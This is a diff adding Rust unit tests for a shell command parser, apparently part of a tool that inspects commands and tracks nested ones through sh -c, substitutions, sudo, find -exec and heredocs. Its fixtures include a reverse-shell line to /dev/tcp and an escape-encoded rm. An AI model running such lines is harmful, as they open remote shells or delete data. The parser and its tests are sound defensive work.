@@ -676,3 +676,73 @@ fn mark_code(name: &str, words: &mut [Word]) {
         }
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// `depth:words`, redirections and input of each command.
+    fn check(line: &str, expected: &[&str]) {
+        let told: Vec<String> = parse(line, 1000)
+            .iter()
+            .map(|command| {
+                let join = match command.join {
+                    Join::After => "",
+                    Join::Pipe => "|",
+                    Join::Inside => "@",
+                    Join::Wrapped => "w",
+                };
+                let mut text = format!("{}{join}:", command.depth);
+                text.push_str(&command.words.iter().map(|word| word.text.as_str()).collect::<Vec<_>>().join(","));
+                for redirect in &command.redirects {
+                    text.push_str(&format!(" {}{}", redirect.operator, redirect.target));
+                }
+                if let Some(input) = &command.input {
+                    text.push_str(&format!(" <<{input:?}"));
+                }
+                text
+            })
+            .collect();
+        assert_eq!(told, expected, "{line}");
+    }
+
+    #[test]
+    fn lines_are_taken_apart() {
+        check("cd /a && ls -l | wc; x=1 y", &["0:cd,/a", "0:ls,-l", "0|:wc", "0:y"]);
+        check("echo 'a;b' \"c|d\" e\\ f", &["0:echo,a;b,c|d,e f"]);
+        check("bash -i >& /dev/tcp/1.2.3.4/5 0>&1", &["0:bash,-i >&/dev/tcp/1.2.3.4/5 0>&1"]);
+        check("cat > a.sh <<'EOF'\nrm x\nEOF\nls", &["0:cat >a.sh <<\"rm x\\n\"", "0:ls"]);
+        check("if a; then b; fi # c; d", &["0:a", "0:b"]);
+        check("$'\\x72\\155' -f", &["0:rm,-f"]);
+    }
+
+    #[test]
+    fn what_is_inside_is_followed() {
+        check("sh -c 'a | b'", &["0:sh,-c,a | b", "1@:a", "1|:b"]);
+        check("echo $(id)", &["0:echo,$()", "1@:id"]);
+        check("sudo -u root cp a b", &["0:sudo,-u,root", "1w:cp,a,b"]);
+        check("find . -exec rm {} \\;", &["0:find,.,-exec", "1w:rm,{},;"]);
+        check("echo 'rm x' | sh", &["0:echo,rm x", "0|:sh <<\"rm x\"", "1@:rm,x"]);
+        check("bash <<E\nrm x\nE", &["0:bash <<\"rm x\\n\"", "1@:rm,x"]);
+    }
+
+    #[test]
+    fn what_is_not_closed_ends_with_the_text() {
+        check("a 'b", &["0:a,b"]);
+        check("a $(b", &["0:a,$()", "1@:b"]);
+        check("cat <<X", &["0:cat"]);
+        check("cat <<X\na", &["0:cat <<\"a\""]);
+    }
+
+    #[test]
+    fn the_language_of_an_argument_is_known() {
+        let commands = parse("python3 -c 'import os' x; perl -ne 'print'; awk '{print}' f", 10);
+        let code: Vec<_> = commands
+            .iter()
+            .flat_map(|command| &command.words)
+            .filter(|word| word.code)
+            .map(|word| word.text.as_str())
+            .collect();
+        assert_eq!(code, ["import os", "print", "{print}"]);
+    }
+}
